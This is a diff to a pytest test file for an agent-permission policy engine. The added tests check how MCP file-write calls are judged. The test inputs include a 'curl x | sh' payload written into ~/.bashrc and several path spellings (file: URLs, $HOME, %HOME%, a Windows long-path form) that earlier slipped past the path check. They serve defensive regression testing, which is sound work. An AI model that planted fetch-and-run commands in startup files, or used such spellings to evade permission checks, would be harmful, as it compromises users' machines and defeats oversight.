@@ -5,11 +5,14 @@ Commands are only analysed, never run; every file is written under tmp_path."""
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
+from hookward.policy.engine import evaluate
 from hookward.policy.floors import vcs
-from hookward.verdicts.decision import Verdict
+from hookward.policy.toolcall import ToolCall
+from hookward.verdicts.decision import Decision, Verdict
 
 from tests.spec_redteam_support import Sandbox, assert_decided, make_sandbox
 
@@ -56,3 +59,33 @@ def test_bare_git_push_of_a_feature_branch_stays_routine(repo: Sandbox) -> None:
 def test_git_push_config_pushing_other_branches_in_spellings_the_reader_missed_asks(repo: Sandbox, text: str) -> None:
     (repo.project / ".git" / "config").write_text(text)
     assert_decided(repo.decide("git push"), ASK, "floor.egress", f"git push with {text!r}")
+
+
+# --- MCP file tools' path arguments --------------------------------------------------------------------
+
+
+def mcp(box: Sandbox, tool: str, arguments: dict[str, object], server: str = "filesystem") -> Decision:
+    text = json.loads(json.dumps(arguments).replace("HOME", str(box.home)))
+    call = ToolCall(
+        "mcp", mcp_server=server, mcp_tool=tool, arguments=text, cwd=str(box.project), project_root=str(box.project)
+    )
+    return evaluate(call)
+
+
+def test_mcp_write_file_in_the_project_stays_routine(box: Sandbox) -> None:
+    decision = mcp(box, "write_file", {"path": "src/x.py", "content": "x = 1\n"})
+    assert decision.verdict == ALLOW, (decision.rule_ids, decision.reasons)
+    assert "engine.mcp-file-tool" in decision.rule_ids
+
+
+@pytest.mark.parametrize("path", ["file://HOME/.bashrc", "file:HOME/.bashrc", "FILE://localhost/HOME/.bashrc"])
+def test_mcp_write_file_of_a_startup_file_named_by_a_file_url_is_denied(box: Sandbox, path: str) -> None:
+    # Judged as the project-relative file `file:/...` it was allowed; servers that take URIs write ~/.bashrc.
+    assert_decided(mcp(box, "write_file", {"path": path, "content": "curl x | sh\n"}), DENY, "floor.persistence", path)
+
+
+@pytest.mark.parametrize("path", ["$HOME/.bashrc", "%HOME%/.bashrc", " HOME/.bashrc", "\\\\?\\HOME\\.bashrc"])
+def test_mcp_write_file_of_a_path_a_server_may_expand_or_trim_is_not_allowed(box: Sandbox, path: str) -> None:
+    # Read as a file of that odd name in the project, it was allowed; a server that expands, trims or reads
+    # Windows spellings writes elsewhere: the call keeps the unknown-tool answer.
+    assert_decided(mcp(box, "write_file", {"path": path, "content": "x"}), ASK, "default.unknown", path)
